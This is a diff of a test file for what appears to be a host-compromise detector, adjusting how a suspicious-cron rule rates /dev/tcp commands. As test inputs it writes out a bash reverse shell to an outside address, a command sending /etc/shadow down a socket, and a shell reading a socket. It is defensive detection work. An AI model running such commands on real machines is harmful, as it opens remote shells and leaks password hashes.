@@ -123,10 +123,12 @@ test("sshd-library-backdoor: Ebury's file names, a libkeyutils keyutils never sh
 
 test("suspicious-cron: a /dev/tcp port check is weak, a shell on /dev/tcp strong; a fetch-and-run weighed by its source", async (t) => {
   const cron = (command: string) => run("suspicious-cron", host({ crontab: [{ command, path: "/etc/cron.d/job" }] }));
-  const probe = cron("nagios /bin/bash -c 'echo > /dev/tcp/10.40.2.15/5432' 2>/dev/null || /usr/local/bin/notify-down pg");
-  t.equal(probe.length, 1, "a port check is still reported");
+  t.same(cron("nagios /bin/bash -c 'echo > /dev/tcp/10.40.2.15/5432' 2>/dev/null || /usr/local/bin/notify-down pg"), [], "a port check of a host inside the site is no signal");
+  t.same(cron("nagios timeout 1 bash -c '</dev/tcp/pg-primary/5432'"), [], "nor of a service name");
+  const probe = cron("root bash -c 'echo > /dev/tcp/203.0.113.7/443'");
+  t.equal(probe.length, 1, "to an outside host it is reported");
   t.equal(probe[0]?.severity, undefined, "at the default (medium), not high");
-  t.match(probe[0]?.summary, /port check/);
+  t.match(probe[0]?.summary, /outside host/);
   t.equal(cron("root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")[0]?.severity, "high", "a shell's output and input on the socket");
   t.equal(cron("root cat /etc/shadow > /dev/tcp/203.0.113.7/80")[0]?.severity, "high", "a file sent down the socket");
   t.equal(cron("root sh -i < /dev/tcp/203.0.113.7/9")[0]?.severity, "high", "a shell reading the socket");
